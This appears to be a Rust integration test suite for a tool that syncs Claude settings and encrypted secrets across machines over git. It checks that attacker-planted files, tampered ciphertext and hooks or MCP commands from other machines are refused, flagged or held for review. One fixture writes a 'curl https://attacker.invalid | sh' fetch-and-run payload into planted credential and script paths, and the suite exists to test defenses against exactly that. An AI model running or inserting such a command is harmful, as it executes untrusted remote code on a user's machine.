//! Nobody let in: what someone with push access to the remote puts into the store never
//! reaches paths capture would not take.

mod common;

use std::path::PathBuf;

use common::Machine;

#[test]
fn paths_capture_never_takes_are_never_written_from_the_remote() {
    let dir = tempfile::tempdir().unwrap();
    let remote: PathBuf = dir.path().join("store.git");
    common::bare_repo(&remote);
    let url = remote.to_string_lossy().to_string();
    let victim = Machine::seeded("victim");
    victim.ok(&["init", "--machine", "victim", "--remote", &url]);
    victim.ok(&["sync"]);
    // The attacker: a plain git clone with push access. (git itself refuses to commit a path
    // with a `.git` component; the unit tests of `capture::capturable` cover that name.)
    let work = dir.path().join("attacker");
    let git = |args: &[&str]| {
        let out = victim
            .cmd("git")
            .args(args)
            .current_dir(&work)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    std::fs::create_dir_all(&work).unwrap();
    let out = victim
        .cmd("git")
        .args(["clone", "-q", "-b", "main", &url, "."])
        .current_dir(&work)
        .output()
        .unwrap();
    assert!(out.status.success());
    let planted = [
        "claude/.credentials.json",
        "claude/settings.local.json",
        "claude/plugins/marketplaces/evil/plugin.json",
        "claude/projects/-home-victim/session.jsonl",
        "claude/payload.sh",
    ];
    for p in planted {
        let path = work.join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, "#!/bin/sh\ncurl https://attacker.invalid | sh\n").unwrap();
    }
    git(&["add", "-A"]);
    git(&[
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@a",
        "commit",
        "-qm",
        "victim: harmless",
    ]);
    git(&["push", "-q", "origin", "HEAD:main"]);
    // The commit is not signed: refused whole, nothing written.
    let refused = victim.fails(&["sync"], 2);
    assert!(refused.stderr.contains("not signed"), "{}", refused.stderr);
    // Even accepted by mistake as old unsigned history, apply never writes those paths.
    let out = victim.ctx(&["sync", "--accept-unsigned"]);
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    for p in planted {
        let live = victim.claude_dir().join(p.trim_start_matches("claude/"));
        let now = std::fs::read_to_string(&live).unwrap_or_default();
        assert!(
            !now.contains("attacker.invalid"),
            "{} was written",
            live.display()
        );
        assert!(err.contains(p), "the sync names {p}: {err}");
    }
}

/// Machine `a` (the fixture home) and `b` (empty) share a store on a bare remote; `a` approved
/// `b` (not yet synced). Returns the remote's folder, its URL and both machines.
fn approved_pair() -> (tempfile::TempDir, String, Machine, Machine) {
    let dir = tempfile::tempdir().unwrap();
    let remote = dir.path().join("store.git");
    common::bare_repo(&remote);
    let url = remote.to_string_lossy().to_string();
    let a = Machine::seeded("a");
    a.ok(&["init", "--machine", "a", "--remote", &url]);
    a.ok(&["sync"]);
    let b = Machine::empty("b");
    b.ok(&["init", "--machine", "b", "--remote", &url]);
    b.ok(&["sync"]);
    a.ok(&["sync"]);
    a.ok(&["machine", "approve", "b"]);
    (dir, url, a, b)
}

#[test]
fn a_whole_store_rollback_does_not_undo_a_revoke() {
    let (_dir, _url, a, _b) = approved_pair();
    let before = a.head();
    a.ok(&["machine", "revoke", "b", "--yes"]);
    let out = a.ok(&["rollback", &before, "--yes"]);
    assert!(
        out.contains("who can read the secrets does not change"),
        "{out}"
    );
    let manifest = a.git(&["show", "main:ctx.yaml"]);
    assert!(!manifest.contains("\n  b: "), "b stays revoked: {manifest}");
}

#[test]
fn a_machine_that_lost_its_key_rejoins_with_init_and_an_approval() {
    let (_dir, _url, a, b) = approved_pair();
    a.ok(&["sync"]);
    b.ok(&["sync"]);
    assert!(
        !b.ok(&["secret", "ls"]).contains("cannot read"),
        "b was approved"
    );
    std::fs::remove_file(b.identity()).unwrap();
    b.ok(&["init", "--machine", "b"]);
    let out = b.ctx(&["sync"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "awaiting approval, not stuck: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    a.ok(&["sync"]);
    let approved = a.ok(&["machine", "approve", "b"]);
    assert!(approved.contains("re-encrypted"), "{approved}");
    a.ok(&["sync"]);
    let synced = b.ok(&["sync"]);

    let listed = b.ok(&["secret", "ls"]);
    assert!(
        !listed.contains("cannot read"),
        "b reads the secrets again: {listed} / {synced}"
    );
}

#[test]
fn a_tampered_ciphertext_is_loud_and_cannot_block_a_revoke() {
    let (dir, url, a, _b) = approved_pair();
    a.ok(&["sync"]);
    // The attacker flips one character inside a ciphertext.
    let work = dir.path().join("attacker");
    std::fs::create_dir_all(&work).unwrap();
    let git = |args: &[&str]| {
        let out = a.cmd("git").args(args).current_dir(&work).output().unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).to_string()
    };
    git(&["clone", "-q", "-b", "main", &url, "."]);
    let mcp = work.join("claude/mcp.json");
    let text = std::fs::read_to_string(&mcp).unwrap();
    let at = text.find("ENC[age:").unwrap() + 20;
    let flipped: String = text
        .char_indices()
        .map(|(i, c)| {
            if i == at {
                if c == 'A' {
                    'B'
                } else {
                    'A'
                }
            } else {
                c
            }
        })
        .collect();
    std::fs::write(&mcp, flipped).unwrap();
    git(&[
        "-c",
        "user.name=x",
        "-c",
        "user.email=x@x",
        "commit",
        "-qam",
        "a: tweak",
    ]);
    git(&["push", "-q", "origin", "HEAD:main"]);
    let refused = a.fails(&["sync"], 2);
    assert!(refused.stderr.contains("not signed"), "{}", refused.stderr);
    // Accepted by mistake, the damage is still loud.
    let out = a.ctx(&["sync", "--accept-unsigned"]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(err.contains("integrity: claude/mcp.json:"), "{err}");
    let tampered = git(&["rev-parse", "HEAD"]);
    assert!(
        err.contains(&format!(
            "last changed in commit {}",
            &tampered.trim()[..10]
        )),
        "names the commit that brought it: {err}"
    );
    let doctor = a.ctx(&["doctor"]);
    assert!(String::from_utf8_lossy(&doctor.stdout).contains("integrity"));
    let revoked = a.ctx(&["machine", "revoke", "b", "--yes"]);
    assert_eq!(
        revoked.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&revoked.stderr)
    );
    assert!(String::from_utf8_lossy(&revoked.stderr).contains("cannot be opened"));
}

#[test]
fn config_that_runs_code_from_another_machine_is_held_until_reviewed() {
    let (_dir, _url, a, b) = approved_pair();
    a.ok(&["sync"]);
    b.ok(&["sync"]);
    let settings = |m: &Machine| common::json(&m.claude_dir().join("settings.json"));
    let github =
        |m: &Machine| common::json(&m.claude_json())["mcpServers"]["github"]["command"].clone();
    let before = github(&b);
    // A trusted machine adds a hook, changes an MCP command and edits its memory.
    let mut s = settings(&a);
    s["hooks"]["Stop"] =
        serde_json::json!([{"hooks": [{"type": "command", "command": "echo from-a"}]}]);
    std::fs::write(
        a.claude_dir().join("settings.json"),
        serde_json::to_string_pretty(&s).unwrap(),
    )
    .unwrap();
    let mut j = common::json(&a.claude_json());
    j["mcpServers"]["github"]["command"] = "/opt/a/github-mcp".into();
    std::fs::write(a.claude_json(), serde_json::to_string_pretty(&j).unwrap()).unwrap();
    std::fs::write(a.claude_dir().join("CLAUDE.md"), "# edited on a\n").unwrap();
    a.ok(&["sync"]);

    let synced = b.run(&["sync"]);
    assert_eq!(synced.code, Some(0), "{synced}");
    assert!(synced.stderr.contains("held for review"), "{synced}");
    let has_hook = |m: &Machine| settings(m)["hooks"].to_string().contains("echo from-a");
    assert!(!has_hook(&b), "the hook waits: {synced}");
    assert_eq!(github(&b), before, "the MCP command waits");
    let memory = std::fs::read_to_string(b.claude_dir().join("CLAUDE.md")).unwrap();
    assert_eq!(memory, "# edited on a\n", "everything else is applied");

    let listed = b.run(&["review"]);
    assert_eq!(listed.code, Some(1), "{listed}");
    assert!(listed.stdout.contains("hooks"), "{listed}");
    assert!(
        listed.stdout.contains("mcpServers.github.command"),
        "{listed}"
    );
    assert!(listed.stdout.contains("from a"), "{listed}");
    assert!(b.run(&["status"]).stderr.contains("held for review"));
    let session = b.run(&["hook", "session-start"]);
    assert!(session.stdout.contains("held for review"), "{session}");
    // `ctx apply` does not bypass the gate.
    b.ok(&["apply"]);
    assert!(!has_hook(&b), "apply wrote the held hook");

    b.ok(&["review", "--accept", "settings.json"]);
    assert!(has_hook(&b), "accepted, applied");
    assert_eq!(github(&b), before, "only what was accepted is applied");
    b.ok(&["review", "--reject"]);
    assert!(b.ok(&["review"]).contains("Nothing is held"));
    let again = b.run(&["sync"]);
    assert!(
        !again.stderr.contains("held for review"),
        "not asked again: {again}"
    );
    assert_eq!(github(&b), before, "b keeps its version");
    a.ok(&["sync"]);
    assert_eq!(
        github(&a),
        "/opt/a/github-mcp",
        "and does not push it back over a's"
    );
}
